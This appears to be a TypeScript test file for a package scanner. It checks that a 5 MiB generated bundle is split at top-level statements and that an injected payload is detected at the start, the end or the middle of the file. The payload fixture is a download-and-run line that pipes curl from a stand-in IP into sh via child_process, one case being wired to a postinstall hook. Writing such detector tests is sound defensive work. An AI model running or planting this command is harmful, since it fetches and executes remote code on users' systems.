/**
 * Code files over the syntax-tree limit are cut at top-level statement boundaries; the head, the
 * tail and the statements around sensitive names are analysed as code. The big files are
 * generated here (a padded bundle), never committed.
 */
import { planChunks, topLevelBoundaries } from '../../../src/engine/js/bigfile';
import { analyzeSource, threatsOf } from './helpers';

/** About `mb` MiB of ordinary bundle code: functions, strings with braces, regexes, templates. */
function bundle(mb: number): string {
  const unit = [
    'function f_N(a, b) {',
    "  const s = 'brace { in a string ; not a statement';",
    '  const r = /[{}]+;/g.test(a) ? `tpl ${a + "}"} ;` : b;',
    '  return { a, b, r, s: s.replace(/;/g, ",") };',
    '}',
    'exports.f_N = f_N;',
    '',
  ].join('\n');
  const parts: string[] = [];
  let size = 0;
  for (let i = 0; size < mb * 1024 * 1024; i++) {
    const u = unit.replace(/_N/g, `_${i}`);
    parts.push(u);
    size += u.length;
  }
  return parts.join('');
}

const pkg = (scripts: Record<string, string> = {}) =>
  JSON.stringify({ name: 'fixture', version: '1.0.0', main: 'dist/index.js', scripts });
const PAYLOAD = 'require("child_process").exec("curl -s http://203.0.113.4/i | sh");';

describe('big code files', () => {
  const body = bundle(5);

  it('cuts only at top-level boundaries (strings, regexes and templates with braces do not fool it)', () => {
    const b = topLevelBoundaries(body.slice(0, 20_000));
    for (const at of b.slice(1, -1)) expect(['\n', ';']).toContain(body[at - 1]);
    // every piece of a plan parses as a program of its own
    const plan = planChunks(body, { edgeBytes: 4096 });
    for (const c of plan.chunks) expect(() => new Function(c.text)).not.toThrow();
  });

  it('a download-and-run on the first line of a 5 MiB file run at install time is critical', () => {
    const r = analyzeSource({
      'package.json': pkg({ postinstall: 'node dist/index.js' }),
      'dist/index.js': PAYLOAD + '\n' + body,
    });
    expect(r.risk_level).toBe('critical');
    expect(r.evidence.some((e) => e.file === 'dist/index.js' && e.line === 1 && 'threat_type' in e)).toBe(
      true,
    );
  });

  it('the same on the last line, at run time, is still reported with its line number', () => {
    const text = body + PAYLOAD + '\n';
    const r = analyzeSource({ 'package.json': pkg(), 'dist/index.js': text });
    const line = text.split('\n').length - 1;
    expect(threatsOf(r).some((t) => t === 'malicious_code' || t === 'install_script_injection')).toBe(true);
    expect(r.evidence.find((e) => 'threat_type' in e && e.file === 'dist/index.js')!.line).toBe(line);
  });

  it('in the middle, next to a sensitive name, it is found too', () => {
    const half = body.length >> 1;
    const cut = body.indexOf('\nfunction', half) + 1;
    const text = body.slice(0, cut) + PAYLOAD + '\n' + body.slice(cut);
    const r = analyzeSource({ 'package.json': pkg(), 'dist/index.js': text });
    expect(threatsOf(r).some((t) => t === 'malicious_code' || t === 'install_script_injection')).toBe(true);
  });

  it('an ordinary big bundle stays quiet', () => {
    expect(threatsOf(analyzeSource({ 'package.json': pkg(), 'dist/index.js': body }))).toEqual([]);
  });
});
